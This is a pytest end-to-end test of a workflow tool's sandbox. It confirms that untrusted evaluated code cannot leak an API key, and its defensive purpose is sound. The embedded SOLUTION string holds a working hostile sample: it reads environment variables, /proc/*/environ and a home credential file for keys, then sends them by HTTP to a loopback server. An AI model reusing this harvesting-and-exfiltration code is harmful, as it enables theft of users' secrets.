"""End to end: ``textgrad-lab eval`` of a workflow whose metric runs unit tests against
hostile code, which hunts for the API key and sends what it finds to a loopback server.
The server must receive nothing, in both isolation levels."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import urllib.request
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]

WORKFLOW = '''
import textgrad_lab as tl

SOLUTION = """
import os, urllib.request

def hunt():
    found, scanned = set(), 0
    def look(data):
        for word in data.replace(b"\\\\0", b" ").replace(b"=", b" ").split():
            if word.startswith(b"sk-fake-"):
                found.add(word.decode())
    look(repr(dict(os.environ)).encode())
    for p in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            look(open(f"/proc/{p}/environ", "rb").read())
            scanned += 1
        except OSError:
            pass
    try:
        look(open(HOME_FILE, "rb").read())
    except OSError:
        pass
    for key in found:
        try:
            urllib.request.urlopen(f"http://127.0.0.1:PORT/exfil/{key}", timeout=2).read()
        except OSError:
            pass
    return scanned

def answer():
    return f"scanned {hunt()}"
""".replace("HOME_FILE", repr(HOME_FILE)).replace("PORT", str(PORT))

system = tl.Parameter("Write the function.", name="system")


def solve(example, engine):
    return SOLUTION


workflow = tl.train.Workflow(
    name="exfil",
    forward=solve,
    parameters=[system],
    metric="unit_tests",
    data=[
        {
            "input": "write answer()",
            "target": None,
            "test": "def check(candidate):\\n    assert candidate() == 1\\n",
            "entry_point": "answer",
        }
    ],
    model="mock",
)
'''


class Recorder(BaseHTTPRequestHandler):
    paths: list[str]

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server():
    paths: list[str] = []
    handler = type("Handler", (Recorder,), {"paths": paths})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1], paths
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_eval_with_hostile_code_sends_no_key(isolation, server, tmp_path) -> None:
    port, paths = server
    urllib.request.urlopen(f"http://127.0.0.1:{port}/control", timeout=5).read()
    assert paths == ["/control"]  # the server records what reaches it
    secret = f"sk-fake-{uuid.uuid4().hex}"
    home_file = Path.home() / f".textgrad-test-netrc-{uuid.uuid4().hex}"
    try:
        home_file.write_text(f"password {secret}\n")
    except OSError:
        pytest.skip("home directory not writable")
    home_file.chmod(0o600)
    flow = tmp_path / "flow.py"
    flow.write_text(f"HOME_FILE = {str(home_file)!r}\nPORT = {port}\n" + WORKFLOW)
    out = tmp_path / "scores.json"
    cmd = [sys.executable, "-m", "textgrad_lab", "eval", str(flow), "--split", "all"]
    cmd += ["--out", str(out)]
    env = {**os.environ, "OPENAI_API_KEY": secret, "PYTHONPATH": str(ROOT)}
    env.pop("TEXTGRAD_LAB_ALLOW_WEAK_SANDBOX", None)
    if isolation == "weak":  # bubblewrap out of sight; the weak sandbox accepted
        env["PATH"] = str(tmp_path)
        cmd.append("--allow-weak-sandbox")
    try:
        done = subprocess.run(
            cmd, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=180, check=False
        )
    finally:
        home_file.unlink()
    assert done.returncode == 0, done.stdout[-1500:] + done.stderr[-1500:]
    sample = json.loads(out.read_text())["samples"][0]
    # The hostile code ran (and looked through the processes it could see) ...
    assert "candidate() evaluated to 'scanned " in sample["feedback"], sample
    assert sample["score"] == 0.0 and sample["error"] is None
    # ... and nothing it found reached the server.
    assert paths == ["/control"]
    assert secret not in done.stdout + done.stderr + out.read_text()
